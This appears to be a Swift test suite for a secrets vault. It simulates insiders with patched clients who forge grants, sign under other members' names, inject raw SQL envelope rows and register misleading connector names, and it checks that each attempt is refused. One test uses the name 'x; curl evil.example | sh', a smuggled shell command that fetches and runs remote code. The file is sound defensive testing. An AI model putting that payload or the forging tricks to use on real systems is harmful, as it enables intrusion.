import CustodyEvidence
@testable import Custody
import CustodyCrypto
import CustodyLog
import CustodySecrets
import CustodyValues
import CustodyTesting
import Foundation
import Testing

/// Members with a patched client.
struct InsiderTests {
  let vault: TemporaryVault
  init() throws {
    vault = try TemporaryVault()
    try vault.furnish()
  }

  @Test func `an item whose metadata has another name is damaged, until an admin retires it`() throws {
    let dev = try vault.session(.dev)
    let others = ConnectorDetails(name: "payroll", provider: "google", connectorID: "g")
    try dev.commit { transaction in
      try transaction.register(others, as: "harmless")
    }
    let ada = try vault.session(.ada)
    #expect(try ada.connectors().map(\.details.name) == ["crm-sync"])
    #expect(ada.damages.map(\.author) == ["dev"])
    #expect(refusal { _ = try dev.connector("harmless") }?.code == .integrity)
    try ada.commit { try $0.retire(.connector, "harmless") }
    #expect(try ada.connectors().filter { !$0.item.isRetired }.map(\.details.name) == ["crm-sync"])
  }

  @Test func `a metadata key that a holder made of junk stops nothing but its item, which an admin ends by its ID`()
    throws
  {
    try vault.session(.dev).commit { try $0.share(.connector, "crm-sync", Share(with: "ada")) }
    _ = try vault.session(.ada).commit { try $0.remove("audrey") }
    let dev = try vault.session(.dev)
    let connector = try dev.connector("crm-sync").item
    try dev.commit { transaction in try translating { try transaction.renewBadly(connector) } }
    #expect(refusal { _ = try dev.connector("crm-sync") }?.code == .integrity)
    // ada loses the audit key: what she holds gets a new metadata key, where it opens.
    let bea = try vault.session(.bea)
    _ = try bea.commit { try $0.setRole(of: "ada", to: .developer) }
    let (name, id) = (connector.id.hex, connector.id)
    #expect(try bea.item(.connector, name).id == id)
    #expect(try bea.commit { try $0.unshare(.connector, name, from: "ada") } == .needsRekey)
    try bea.commit { try $0.rotate(.connector, name, secret: secret("another"), .takingOver()) }
    #expect(try bea.opensValue(of: .connector, name))
    _ = try bea.commit { try $0.remove("dev") }
    try bea.commit { try $0.retire(.connector, name, withTokens: true) }
    // Its name is free, and what is made of it holds.
    try bea.commit {
      try $0.register(ConnectorDetails(name: "crm-sync", provider: "google", connectorID: "g"), secret: secret("s"))
    }
    #expect(try bea.connector("crm-sync").id != id)
    #expect(try bea.verifyLog().verdicts.holds)
  }

  @Test func `a name that would run in a shell is told as a name: whoever makes a command of it takes it out`() throws {
    let name = "x; curl evil.example | sh"
    let details = ConnectorDetails(name: name, provider: "google", connectorID: "g")
    try vault.session(.dev).commit { transaction in
      try transaction.register(details, as: name)
    }
    let remedies = Set(try vault.session(.ada).exposures().filter { $0.kind == .connector }.map(\.remedy))
    #expect(remedies == [Hint(.rotate(.connector, "crm-sync")), Hint(.rotate(.connector, name))])
  }

  @Test func `no key of a developer or an auditor opens what was not shared with them`() throws {
    let raw = try RawFile(vault.path)
    let envelopes = try raw.rows("SELECT quote(sealed) FROM envelope WHERE sealed IS NOT NULL").map {
      unhex(String($0[0].dropFirst(2).dropLast()))
    }
    let ada = try vault.session(.ada)
    let token = try #require(try ada.tokens().first).id
    let mine = try raw.rows("SELECT quote(sealed) FROM envelope WHERE item = x'\(token.hex)'").map {
      unhex(String($0[0].dropFirst(2).dropLast()))
    }
    #expect(mine.count == 2)
    for person in [Person.dev, .bea] {
      let session = try vault.session(person)
      for envelope in mine { #expect(session.core.opensNothing(envelope)) }
    }
    // The auditor's own key opens none at all; the audit key opens metadata keys, which are no data keys.
    let audrey = try vault.session(.audrey)
    for envelope in envelopes { #expect(audrey.core.opensNothing(envelope)) }
    _ = audrey.member
  }

  @Test func `an envelope that no entry grants opens nothing, and an auditor finds it`() throws {
    let ada = try vault.session(.ada)
    try ada.commit { try $0.share(.token, "contoso/crm-sync", Share(with: "bea")) }
    let raw = try RawFile(vault.path)
    let dev = try #require(vault.people[.dev])
    let box = try #require(try vault.session(.dev).member.flatMap { BoxPublicKey($0.keys.box.bytes) })
    let sealed = box.wrap(try DataKey.random(in: SecureArena()))
    func literal(_ bytes: [UInt8]) -> String { "x'" + bytes.map { String(format: "%02x", $0) }.joined() + "'" }
    try raw.run(
      """
      INSERT INTO envelope SELECT item, kind, generation, x'\(dev.hex)', entry, \(literal(sealed)), \(literal(SHA256.hash(sealed).bytes))
      FROM envelope WHERE kind = 1 AND recipient = x'\(try #require(vault.people[.bea]).hex)'
      """)
    #expect(refusal { _ = try vault.session(.dev).reveal("contoso/crm-sync", how: .pipe) }?.code == .notShared)
    #expect(refusal { _ = try vault.session(.audrey).verifyLog() }?.code == .integrity)
  }

  // Entries of a patched client are refused by everyone who folds them.
  @Test func `a developer who signs their own grant is refused by every reader`() throws {
    let dev = try vault.session(.dev)
    let token = try #require(try vault.session(.audrey).tokens().first).item
    let error = refusal {
      try dev.commit { transaction in
        _ = try translating {
          try transaction.append(.tokenShare) { entry in
            entry.set(.item, token.id)
            entry.set(.revision, token.revision)
            entry.set(.generation, token.generation)
            entry.set(.metadataGeneration, 1)
            entry.set(.to, dev.memberID)
            entry.set(.envelopeSHA256, SHA256.hash([1]))
          }
        }
      }
    }
    #expect(error?.code == .integrity)
    #expect(error?.reason.contains("a developer may not sign token.share") == true)
    _ = try vault.session(.audrey).verifyLog()
  }

  // A grant that is replaced is taken away: nobody would rely on the entry later, and so find it forged.
  @Test func `a share in another member's name takes nobody's grant away`() throws {
    let ada = try #require(vault.people[.ada])
    let dev = try vault.session(.dev)
    let error = refusal {
      try dev.commit { transaction in
        try translating {
          let core = transaction.core
          let victim = try #require(core.history.members[ada])
          let token = try #require(core.history.items.first { $0.kind == .token })
          var draft = EntryDraft(
            EntryHeader(
              origin: core.history.origin, time: core.now(), actor: ada, seq: victim.lastSeq + 1,
              seen: transaction.seen, action: .tokenShare))
          draft.set(.item, token.id)
          draft.set(.revision, token.revision)
          draft.set(.generation, token.generation)
          draft.set(.metadataGeneration, 1)
          draft.set(.to, ada)
          draft.set(.envelopeSHA256, SHA256.hash([1]))
          draft.set(.until, Timestamp(milliseconds: 1_600_000_000_000))
          _ = try core.ledger.append(draft, by: Forger(victim.keys, core.holder))
        }
      }
    }
    #expect(error?.code == .integrity)
    #expect(error?.reason.contains("its signature does not hold") == true)
    let value = text(try vault.session(.ada).reveal("contoso/crm-sync", how: .pipe))
    #expect(value == "refresh-token-1")
  }

  @Test func `a denied exchange names its token, also where the connector was not shared`() throws {
    let ada = try vault.session(.ada)
    let token = try #require(try ada.tokens().first).id
    #expect(refusal { _ = try ada.claim("contoso/crm-sync") }?.code == .notShared)
    var denied: [Identifier?] = []
    try vault.session(.audrey).eachLogLine(LogFilter()) {
      if $0.entry.outcome == .denied { denied.append($0.entry.identifier(.item)) }
    }
    #expect(denied == [token])
  }
}

extension Custody.Transaction {
  /// Renews a metadata key by one that opens to nobody, as a patched client can.
  func renewBadly(_ item: Item) throws {
    let generation = item.metadataKey.generation + 1
    var envelopes = Envelopes(.metadataKey, generation: generation)
    let members = core.history.metadataRecipients(of: item, for: core.me, at: core.now())
    for id in [Identifier.none] + members { envelopes.add(id, Sodium.randomBytes(80)) }
    let writer = TextWriter(
      vault: core.vault, item: item.id, generation: generation, key: try MetadataKey.random(in: core.arena))
    let renewal = Renewal(
      commitment: SHA256.hash([7]), generation: generation, previous: Sodium.randomBytes(73), envelopes: envelopes,
      journal: nil, carriesJournal: false, writer: writer)
    let entry = try append(.connectorRenew) { entry in
      entry.set(.item, item.id)
      renewal.name(in: &entry)
    }
    try store(renewal, of: item, entry)
  }

  /// Registers a connector under another name than its details have, as a patched client can.
  func register(_ details: ConnectorDetails, as name: String) throws {
    let new = NewItem(kind: .connector, name: name, metadata: details.metadata, expires: nil)
    _ = try add(new, secret: secret("s"))
  }
}

extension Core {
  /// Returns true if this member's own key does not open the envelope.
  func opensNothing(_ envelope: [UInt8]) -> Bool {
    do {
      let _: DataKey = try holder.unwrap(envelope, in: arena)
      return false
    } catch { return true }
  }
}

/// Signs with its own keys under another member's name.
final class Forger: KeyHolder {
  let keys: MemberKeys
  private let own: any KeyHolder
  /// False for a patched client, which does not check its own entries.
  let signsElsewhere: Bool

  init(_ keys: MemberKeys, _ own: any KeyHolder, signsElsewhere: Bool = true) {
    (self.keys, self.own, self.signsElsewhere) = (keys, own, signsElsewhere)
  }

  func unwrap<Purpose: KeyPurpose>(_ sealed: [UInt8], in arena: SecureArena) throws -> Key<Purpose> {
    try own.unwrap(sealed, in: arena)
  }
  func unwrapAuditKey(
    _ sealed: [UInt8], expecting publicKey: BoxPublicKey, in arena: SecureArena
  ) throws -> BoxKey { try own.unwrapAuditKey(sealed, expecting: publicKey, in: arena) }
  func signEntry(_ text: [UInt8]) throws -> [UInt8] { try own.signEntry(text) }
  func signCheckpoint(_ text: [UInt8]) throws -> [UInt8] { try own.signCheckpoint(text) }
  func signCosignature(_ message: [UInt8]) throws -> [UInt8] { try own.signCosignature(message) }
}
